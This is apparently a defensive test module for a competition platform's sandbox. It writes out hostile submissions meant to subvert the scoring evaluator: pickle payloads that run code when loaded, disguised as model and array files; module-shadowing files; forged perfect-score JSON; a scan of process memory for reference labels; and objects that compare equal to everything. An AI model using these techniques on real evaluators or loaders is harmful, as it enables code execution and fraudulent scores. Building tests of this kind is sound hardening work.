"""Items 7 and 38 to 41: against the evaluator, and against whoever would load what a program made.

Each goes the whole way: the program in its container, the evaluator in another one with the reference.
"""

import io
import pickle
import struct
import zipfile
from collections.abc import Callable

from leitai.competitions.models import Kind
from tests.sandbox.hostile.attack import REFUSED, SCORED, Attack, Ended, Ground
from tests.sandbox.hostile.machine import MARK
from tests.sandbox.hostile.worker import LABEL, PREDICTIONS

# Away from the answers by 1 in the public split: a score of 0 would be the work of the attack.
WRONG = "id,value\na,2\nb,3\n"
HONEST = {"rmse": 1.0, "mae": 1.0}
DEED = (
    "import os\n"
    f"for place in ('/tmp/{MARK}', '{MARK}', '/job/output/{MARK}'):\n"
    "  try: open(place, 'w').close()\n  except OSError: pass\n"
    'try: open(\'/job/output/scores.json\', \'w\').write(\'{"scores": {"public": {"rmse": 0.0, "mae": 0.0},'
    ' "private": {"rmse": 0.0, "mae": 0.0}}}\')\nexcept OSError: pass\n'
)


class Payload:
    """What runs when it is unpickled, and gives itself out for an array that equals everything."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return exec, (DEED,)


def pickled() -> bytes:
    return pickle.dumps(Payload())


def npy() -> bytes:
    """An array of objects, which numpy would unpickle."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (2,), }"
    head += b" " * (117 - len(head)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + pickled()


def torch() -> bytes:
    """As torch saves: a zip with a pickle in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("archive/data.pkl", pickled())
        archive.writestr("archive/version", "3\n")
    return stream.getvalue()


MADE = {"model.pkl": pickled, "model.joblib": pickled, "array.npy": npy, "weights.pt": torch}


def upload(content: Callable[[], bytes], name: str) -> Callable[[Ground], Ended]:
    """A file handed in as predictions."""

    def launch(ground: Ground) -> Ended:
        found = ground.worker.score(Kind.PREDICTIONS, content(), name)
        return Ended(found.verdict, ("it has a score",) if found.scores else ())

    return launch


def code(text: str, honest: bool = True, **files: bytes) -> Callable[[Ground], Ended]:
    """A program that leaves predictions, wrong by 1, and more; it may have no other score than theirs."""

    def launch(ground: Ground) -> Ended:
        found = ground.worker.code(text, **files)
        effects = [f"scored {found.scores}"] if found.scores != (HONEST if honest else {}) else []
        effects += ["a label was read"] if LABEL in found.texts else []
        return Ended(found.verdict, tuple(effects))

    return launch


def leaves(files: dict[str, bytes]) -> str:
    """The text of a program that writes these files."""
    return (
        f"import os\nfiles = {files!r}\nfor name, content in files.items():\n"
        "    place = '/job/output/' + name\n    os.makedirs(os.path.dirname(place), exist_ok=True)\n"
        "    open(place, 'wb').write(content)\n"
    )


MODULES = (
    "numpy.py", "polars.py", "json.py", "evaluators.py", "sitecustomize.py", "usercustomize.py",
    "numpy/__init__.py", "sklearn/__init__.py", "polars/__init__.py", "evaluators/__init__.py",
    "evaluators/score.py", "evaluators/formulas/regression.py", "conftest.py", "x.pth",
)  # fmt: skip
SCORES = (
    b'{"scores": {"public": {"rmse": 0.0, "mae": 0.0}, "private": {"rmse": 0.0, "mae": 0.0}}, "rows": {}}'
)
OWN = ("scores.json", "spec.json", "metadata", "metadata.json", "reference.csv", "reference/reference.csv",
       "answers.csv", "detailed_results.html", "outcome", "verdict.json", "input/spec.json")  # fmt: skip
# A pattern that does not match its own text, so that a find is no find of itself.
WALKS = """
import gc, re, sys
pattern = re.compile(rb"labe[l]-of-the-reference")
found = []
frame = sys._getframe()
while frame:
    found += [name for name, value in frame.f_locals.items() if pattern.search(repr(value).encode()[:10_000])]
    frame = frame.f_back
for row in gc.get_objects():
    module = str(getattr(type(row), "__module__", ""))
    if module.startswith(("evaluators", "leitai")):
        found.append(module)
found += [name for name in sys.modules if name.startswith(("evaluators", "leitai"))]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        place, rights = line.split()[:2]
        start, end = (int(part, 16) for part in place.split("-"))
        if rights.startswith("rw") and "[v" not in line and end - start < 300_000_000:
            try:
                memory.seek(start)
                found += pattern.findall(memory.read(end - start))
            except (OSError, OverflowError):
                pass
"""
TELLS = """
open("/job/output/predictions.csv", "w").write("id,value\\na,%d\\nb,3\\n" % (1 if found else 2))
"""
OBJECTS = """
import pickle
class Liar:
    __array__ = lambda self, *a, **k: self
    __eq__ = __ge__ = __le__ = lambda self, other: True
    __hash__ = lambda self: 0
    __len__ = lambda self: 2
    __float__ = lambda self: 0.0
open("/job/output/predictions.csv", "wb").write(pickle.dumps([Liar(), Liar()], 0))
"""

ATTACKS = (
    *(
        Attack(7, f"{name} as predictions", upload(make, name), (REFUSED, "unreadable"), paths=("cold",))
        for name, make in MADE.items()
    ),
    *(
        Attack(
            7,
            f"{name} under the name of a table",
            upload(make, f"p{suffix}"),
            ("unreadable", "not_utf8", "missing_columns"),
        )
        for (name, make), suffix in zip(MADE.items(), (".csv", ".parquet", ".jsonl", ".csv"), strict=True)
    ),
    Attack(
        7,
        "pickles beside the predictions",
        code(leaves({PREDICTIONS: WRONG.encode(), **{name: make() for name, make in MADE.items()}})),
        (SCORED,),
        15.0,
    ),
    Attack(
        38,
        "modules named like the evaluator's",
        code(
            leaves({PREDICTIONS: WRONG.encode(), **dict.fromkeys(MODULES, DEED.encode())}),
            **{f"more/{name}": DEED.encode() for name in MODULES},
        ),
        (SCORED,),
        15.0,
    ),
    Attack(
        39,
        "scores and metadata of its own",
        code(leaves({PREDICTIONS: WRONG.encode(), **dict.fromkeys(OWN, SCORES)})),
        (SCORED,),
        15.0,
    ),
    Attack(40, "walking frames, objects and memory for the reference", code(WALKS + TELLS), (SCORED,), 15.0),
    Attack(
        41,
        "objects with opinions of their own",
        code(OBJECTS, honest=False),
        ("unreadable", "not_utf8", "missing_columns"),
        15.0,
    ),
)
